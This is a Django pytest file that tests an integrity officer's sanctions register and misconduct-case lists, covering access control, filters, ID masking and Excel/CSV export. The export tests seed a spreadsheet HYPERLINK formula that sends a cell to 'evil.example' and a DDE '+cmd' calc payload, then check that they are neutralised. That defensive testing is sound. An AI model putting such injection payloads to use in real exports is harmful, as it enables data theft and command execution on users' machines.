"""The register of sanctions and the misconduct cases as lists (issue 11): filter, sort,
page and export to Excel and CSV, the integrity officer's only, ID numbers masked."""

from __future__ import annotations

import datetime
import io
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.identity import mask_id_number
from integrity.models import CaseStatus, MisconductCase, RespondentHearing, Sanction, SubjectKind
from integrity.services import record_sanction
from tests.lists_support import column, csv_rows, statements, xlsx_rows
from tests.pages_support import text
from workflows import demo

pytestmark = pytest.mark.django_db
TODAY = timezone.localdate()
DAY = datetime.timedelta(days=1)
PERSON = demo.person_id(902)
PERSON_X = demo.person_id(901)  # ends in X
ORG = demo.credit_code(50)
EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
FORMULA_STARTS = ("=", "+", "-", "@")
OTHERS = ["staff", "applicant", "leader", "expert1", "auditor"]


@pytest.fixture
def officer(client, county):
    client.force_login(county.users["integrity"])
    client.cookies["django_language"] = "en"
    return client


def raw_text(response) -> str:
    """Everything in an export, whatever its format: for what must be nowhere in it."""
    if response["Content-Type"].startswith("text/csv"):
        return b"".join(response.streaming_content).decode("utf-8-sig")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        return "".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist())


# --- the register ------------------------------------------------------------------------


def sanction(county, **fields) -> Sanction:
    values = {
        "subject_kind": SubjectKind.PERSON,
        "subject_id": PERSON,
        "subject_name": "刘某某",
        "subject_unit": "浙东智能装备有限公司",
        "severity": "serious",
        "measures": ["ban"],
        "gates": ["apply", "review"],
        "decision_no": "市科信〔2026〕1号",
        "reason": "申报材料造假。",
        "starts_on": TODAY,
        "ends_on": TODAY.replace(year=TODAY.year + 2)
        if (TODAY.month, TODAY.day) != (2, 29)
        else TODAY.replace(year=TODAY.year + 2, day=28),
    }
    values.update(fields)
    return record_sanction(Sanction(**values), county.users["integrity"])


REGISTER = "/integrity/register/"


@pytest.mark.parametrize("who", OTHERS)
@pytest.mark.parametrize("query", ["", "?export=xlsx", "?export=csv"])
def test_only_the_officer_reaches_the_register_and_its_exports(client, county, who, query):
    sanction(county)
    client.force_login(county.users[who])
    assert client.get(REGISTER + query).status_code == 403
    assert client.get(reverse("register-export") + query.replace("?", "?x=1&")).status_code == 403


def test_signed_out_visitors_are_sent_to_sign_in_from_the_register(client, county):
    for url in (REGISTER, REGISTER + "?export=csv", reverse("register-export")):
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith(reverse("login"))


def test_the_csv_holds_the_filtered_rows_with_numbers_masked(officer, county):
    sanction(county, subject_id=PERSON_X, subject_name="王某")
    sanction(
        county,
        subject_name="轻微某",
        subject_id=demo.person_id(903),
        severity="minor",
        measures=["talk"],
        gates=[],
        ends_on=None,
        decision_no="市科信〔2026〕2号",
    )
    sanction(county, subject_kind=SubjectKind.ORGANISATION, subject_id=ORG, subject_name="某公司")
    response = officer.get(REGISTER, {"severity": "serious", "export": "csv"})
    assert 'filename="register-' in response["Content-Disposition"]
    rows = csv_rows(response)
    assert set(column(rows, "Subject")) == {"王某", "某公司"}
    assert set(column(rows, "ID number or credit code")) == {mask_id_number(PERSON_X), ORG}
    assert column(rows, "Starts on") == [TODAY.isoformat()] * 2
    assert set(column(rows, "Subject kind")) == {"Person (ID number)", "Organisation (credit code)"}
    again = officer.get(REGISTER, {"severity": "serious", "export": "csv"})
    assert PERSON_X not in raw_text(again) and PERSON_X[:14] not in raw_text(again)


def test_the_old_export_address_serves_the_register_workbook(officer, county):
    sanction(county, subject_id=PERSON_X, subject_name="王某", decision_no="B-2")
    sanction(county, subject_name="刘某某", decision_no="A-1")
    old = xlsx_rows(officer.get(reverse("register-export"), {"sort": "decision_no"}))
    new = xlsx_rows(officer.get(REGISTER, {"sort": "decision_no", "export": "xlsx"}))
    assert old == new and column(new, "Decision number") == ["A-1", "B-2"]
    # The page's columns only (a period in words) are not in the file; dates are dates.
    assert "Period" not in new[0] and "Starts on" in new[0] and "Ends on" in new[0]


def test_register_filters_narrow_the_page_and_both_exports_alike(officer, county):
    sanction(county, subject_id=PERSON_X, subject_name="王某")
    sanction(county, subject_name="刘某某", gates=["audit"])
    query = {"gate": "apply", "q": PERSON_X[-4:]}
    assert "Showing 1–1 of 1 sanctions" in text(officer.get(REGISTER, query))
    assert column(csv_rows(officer.get(REGISTER, {**query, "export": "csv"})), "Subject") == [
        "王某"
    ]
    assert column(xlsx_rows(officer.get(REGISTER, {**query, "export": "xlsx"})), "Subject") == [
        "王某"
    ]


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_register_exports_neutralise_formulas(officer, county, kind):
    sanction(county, subject_name=EVIL, subject_unit="+cmd|' /C calc'!A0", decision_no="@SUM(1)")
    response = officer.get(REGISTER, {"export": kind})
    rows = xlsx_rows(response) if kind == "xlsx" else csv_rows(response)
    cells = [cell for row in rows[1:] for cell in row if isinstance(cell, str)]
    assert "'" + EVIL in cells and "'@SUM(1)" in cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


@pytest.mark.parametrize("query", ["status=bogus", "in_force_on=2026-13-45", "gate=nowhere"])
def test_a_bad_register_filter_refuses_both_exports(officer, county, query):
    sanction(county)
    page = text(officer.get(f"{REGISTER}?{query}"))
    assert "Correct the filters above" in page and "刘某某" not in page
    for kind in ("xlsx", "csv"):
        response = officer.get(f"{REGISTER}?{query}&export={kind}")
        assert response.status_code == 302 and "export" not in response["Location"]


# --- the misconduct cases ----------------------------------------------------------------


CASES = "/integrity/cases/"


def case(county, **fields) -> MisconductCase:
    """A case as the procedure leaves it (made directly: the procedure is tested elsewhere)."""
    values = {
        "respondent_kind": SubjectKind.PERSON,
        "respondent_id": PERSON,
        "respondent_name": "刘工程师",
        "respondent_unit": "浙东智能装备有限公司",
        "misconduct": "false_application",
        "allegation": "伪造专利证书。",
        "status": CaseStatus.REPORTED,
        "opened_by": county.users["integrity"],
    }
    values.update(fields)
    return MisconductCase.objects.create(**values)


def hearing(county, made: MisconductCase, reply_by: datetime.date, **fields) -> None:
    RespondentHearing.objects.create(
        case=made,
        notified_on=reply_by - 10 * DAY,
        reply_by=reply_by,
        notified_by=county.users["integrity"],
        **fields,
    )


@pytest.fixture
def cases(county):
    """A reported person, an organisation under investigation whose reply is late, a
    decided case, and one proposed by the system."""
    reported = case(county, respondent_id=PERSON_X, respondent_name="王某")
    late = case(
        county,
        respondent_kind=SubjectKind.ORGANISATION,
        respondent_id=ORG,
        respondent_name="某公司",
        misconduct="misuse",
        status=CaseStatus.INVESTIGATING,
    )
    hearing(county, late, TODAY - 2 * DAY)
    decided = case(
        county,
        respondent_name="陈某",
        respondent_id=demo.person_id(903),
        status=CaseStatus.DECIDED,
        decision_no="市科信〔2026〕9号",
    )
    proposed = case(
        county, respondent_name="逾期某", respondent_id=demo.person_id(904), status="proposed"
    )
    return reported, late, decided, proposed


def listed(client, **query) -> set[str]:
    rows = csv_rows(client.get(CASES, {**query, "export": "csv"}))
    return set(column(rows, "Respondent"))


@pytest.mark.parametrize("who", OTHERS)
@pytest.mark.parametrize("query", ["", "?export=xlsx", "?export=csv"])
def test_only_the_officer_reaches_the_cases_and_their_exports(client, county, cases, who, query):
    client.force_login(county.users[who])
    assert client.get(CASES + query).status_code == 403


def test_signed_out_visitors_are_sent_to_sign_in_from_the_cases(client, county):
    response = client.get(CASES + "?export=xlsx")
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))


def test_proposals_are_listed_apart_unless_their_stage_is_asked_for(officer, county, cases):
    page = text(officer.get(CASES))
    assert "Showing 1–3 of 3" in page
    assert listed(officer) == {"王某", "某公司", "陈某"}
    assert listed(officer, status="proposed") == {"逾期某"}
    assert "逾期某" in page  # in the section of the system's proposals


def test_cases_filter_by_stage_kind_subject_and_date(officer, county, cases):
    assert listed(officer, status="decided") == {"陈某"}
    assert listed(officer, misconduct="misuse") == {"某公司"}
    assert listed(officer, respondent_kind="organisation") == {"某公司"}
    assert listed(officer, respondent_kind="person") == {"王某", "陈某"}
    MisconductCase.objects.filter(pk=cases[2].pk).update(
        opened_at=timezone.now() - datetime.timedelta(days=40)
    )
    earlier = (TODAY - 30 * DAY).isoformat()
    assert listed(officer, opened_to=earlier) == {"陈某"}
    assert listed(officer, opened_from=earlier) == {"王某", "某公司"}


def test_overdue_finds_a_reply_deadline_passed_with_nothing_recorded(officer, county, cases):
    assert listed(officer, overdue="true") == {"某公司"}
    assert listed(officer, overdue="false") == {"王某", "陈某"}
    page = text(officer.get(CASES, {"overdue": "true"}))
    assert "overdue" in page
    # A statement received, or a deadline still running, is not overdue.
    hearing_of = RespondentHearing.objects.get(case=cases[1])
    RespondentHearing.objects.filter(pk=hearing_of.pk).update(received_on=TODAY - 3 * DAY)
    assert listed(officer, overdue="true") == set()


@pytest.mark.parametrize(
    "typed, found",
    [
        ("王某", {"王某"}),
        ("〔2026〕9号", {"陈某"}),
        ("智能装备", {"王某", "某公司", "陈某"}),
        (PERSON_X, {"王某"}),
        (PERSON_X.lower(), {"王某"}),
        (PERSON_X.translate(str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")), {"王某"}),
        (" ".join([PERSON_X[:6], PERSON_X[6:14], PERSON_X[14:]]), {"王某"}),
        (PERSON_X[-4:].lower(), {"王某"}),
        (ORG.lower(), {"某公司"}),
    ],
)
def test_cases_are_found_by_name_unit_decision_or_number_as_typed(
    officer, county, cases, typed, found
):
    assert listed(officer, q=typed) == found


def test_a_case_is_found_by_its_number(officer, county, cases):
    decided = cases[2]
    assert "陈某" in listed(officer, q=f"#{decided.pk}")
    assert "陈某" in listed(officer, q=str(decided.pk))


def test_cases_sort_on_the_page_and_in_the_export(officer, county, cases):
    rows = xlsx_rows(officer.get(CASES, {"sort": "respondent_name", "export": "xlsx"}))
    names = column(rows, "Respondent")
    assert names == sorted(names)
    rows = xlsx_rows(officer.get(CASES, {"sort": "-respondent_name", "export": "xlsx"}))
    assert column(rows, "Respondent") == sorted(names, reverse=True)
    page = officer.get(CASES, {"sort": "-reply_by"}).content.decode()
    assert 'aria-sort="descending"' in page


def test_case_numbers_are_masked_on_the_page_and_in_both_exports(officer, county, cases):
    page = officer.get(CASES).content.decode()
    assert mask_id_number(PERSON_X) in page and ORG in page
    assert PERSON_X not in page and PERSON_X.lower() not in page
    for kind in ("xlsx", "csv"):
        response = officer.get(CASES, {"export": kind})
        raw = raw_text(response)
        assert PERSON_X not in raw and PERSON_X[:14] not in raw and PERSON not in raw
        response = officer.get(CASES, {"export": kind})
        rows = xlsx_rows(response) if kind == "xlsx" else csv_rows(response)
        numbers = set(column(rows, "ID number or credit code"))
        assert mask_id_number(PERSON_X) in numbers and ORG in numbers


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_case_exports_neutralise_formulas(officer, county, kind):
    case(county, respondent_name=EVIL, respondent_unit="-2+3", decision_no="@SUM(1)")
    response = officer.get(CASES, {"export": kind})
    rows = xlsx_rows(response) if kind == "xlsx" else csv_rows(response)
    cells = [cell for row in rows[1:] for cell in row if isinstance(cell, str)]
    assert "'" + EVIL in cells and "'-2+3" in cells and "'@SUM(1)" in cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


@pytest.mark.parametrize(
    "query",
    [
        "status=bogus",
        "misconduct=theft",
        "opened_from=2026-02-30",
        "overdue=perhaps",
        "q=%00",
        "q=%1b",
        "q=" + "x" * 500,
    ],
)
def test_a_bad_case_filter_says_so_and_shows_no_rows(officer, county, cases, query):
    response = officer.get(f"{CASES}?{query}")
    assert response.status_code == 200
    page = text(response)
    assert "Correct the filters above" in page and 'data-testid="cases"' not in page
    # The decided case is a row of the unfiltered list, and of no box beside it.
    assert "陈某" not in page and "陈某" in text(officer.get(CASES))
    for kind in ("xlsx", "csv"):
        assert officer.get(f"{CASES}?{query}&export={kind}").status_code == 302


def test_a_refused_report_keeps_the_filters_page_around_it(officer, county, cases):
    response = officer.post(
        CASES,
        {
            "respondent_kind": "person",
            "respondent_id": "330127198001019999",  # wrong check digit
            "respondent_name": "输入保留某",
            "misconduct": "other",
            "allegation": "保留的举报内容",
        },
    )
    assert response.status_code == 200
    page = response.content.decode()
    assert "输入保留某" in page and "保留的举报内容" in page and 'data-testid="cases"' in page


def test_the_case_list_makes_as_many_statements_with_ten_times_the_cases(officer, county):
    late = case(county, status=CaseStatus.INVESTIGATING, respondent_name="某甲")
    hearing(county, late, TODAY - DAY)
    case(county, respondent_name="某乙", decision_no="D-1", status=CaseStatus.DECIDED)
    case(county, respondent_name="某丙")
    officer.get(CASES)  # the first request after signing in also saves the session
    few = statements(officer, CASES)
    for n in range(27):
        made = case(county, respondent_name=f"对象{n}", status=CaseStatus.INVESTIGATING)
        hearing(county, made, TODAY - DAY if n % 2 else TODAY + DAY)
    assert statements(officer, CASES) == few
    assert statements(officer, CASES + "?sort=reply_by&overdue=true") == statements(
        officer, CASES + "?sort=reply_by&overdue=false"
    )


def test_the_address_cannot_set_the_page_size(officer, county, cases):
    sanction(county)
    sanction(county, subject_id=PERSON_X, subject_name="王某")
    assert "Showing 1–2 of 2 sanctions" in text(officer.get(REGISTER, {"per_page": 1}))
    assert "Showing 1–3 of 3" in text(officer.get(CASES, {"per_page": 1}))


def test_the_case_page_boxes_show_the_first_20_and_say_how_many(client, county):
    from tests import cases_support

    for n in range(22):
        cases_support.new_case(county, allegation=f"第{n}号举报。")
    client.cookies["django_language"] = "en"
    client.force_login(county.users["integrity"])
    page = client.get(reverse("cases")).content.decode()
    box = page.split('data-testid="waiting-cases"')[1].split("</section>")[0]
    assert box.count("<li>") == 20
    assert "The first 20 of 22." in box
